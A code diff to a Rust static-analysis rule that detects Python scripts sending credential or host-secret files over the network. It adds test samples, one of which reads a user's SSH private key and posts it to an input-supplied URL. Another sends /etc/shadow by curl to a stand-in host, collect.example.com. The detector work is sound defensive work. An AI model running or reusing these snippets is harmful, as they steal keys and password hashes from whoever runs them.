@@ -3,7 +3,7 @@
 use crate::finding::{Confidence, Severity};
 use crate::scan::code::Unit;
 use crate::scan::operation::Origins;
-use crate::scan::rule::{Check, Circumstance, Reporter, Rule, Sample};
+use crate::scan::rule::{Check, Reporter, Rule, Sample};
 
 /// The rule.
 pub static RULE: Rule = Rule {
@@ -27,6 +27,14 @@ pub static RULE: Rule = Rule {
             "scripts/a.py",
             "import requests\ns = requests.Session()\ndata = open('/etc/passwd').read()\ns.post(input(), data='x')\n",
         ),
+        Sample::File(
+            "scripts/a.py",
+            "import os, requests\np = os.path.join('/home', os.getlogin(), '.ssh', 'id_rsa')\nrequests.post(input(), data=open(p).read())\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import subprocess\ndata = open('/etc/shadow').read()\nsubprocess.run(['curl', '-d', data, 'https://collect.example.com'])\n",
+        ),
     ],
     misses: &[
         Sample::File(
@@ -47,16 +55,22 @@ pub static RULE: Rule = Rule {
 
 fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
     let sent = super::sends(unit, Origins::SENSITIVE);
-    if !sent && !super::operations(unit).iter().any(super::reaches_out) {
+    let outlet = super::Outlet::of(unit);
+    if !sent && outlet.is_none() {
         return;
     }
-    for place in super::sensitive_places(unit) {
+    let mut places = super::sensitive_places(unit);
+    if places.is_empty() && sent {
+        // The path was put together from parts that say nothing alone.
+        places = super::senders(unit, Origins::SENSITIVE);
+    }
+    for place in places {
         let raised = reporter.raise(place);
-        if !sent {
+        if let Some(outlet) = outlet.filter(|_| !sent) {
             raised
-                .message("Python names a file of credentials or host secrets in a file that uses the network")
+                .message("Python names a file of credentials or host secrets in a file that reaches the network")
                 .confidence(Confidence::Medium)
-                .because(Circumstance::Unconnected);
+                .because(outlet.circumstance());
         }
     }
 }
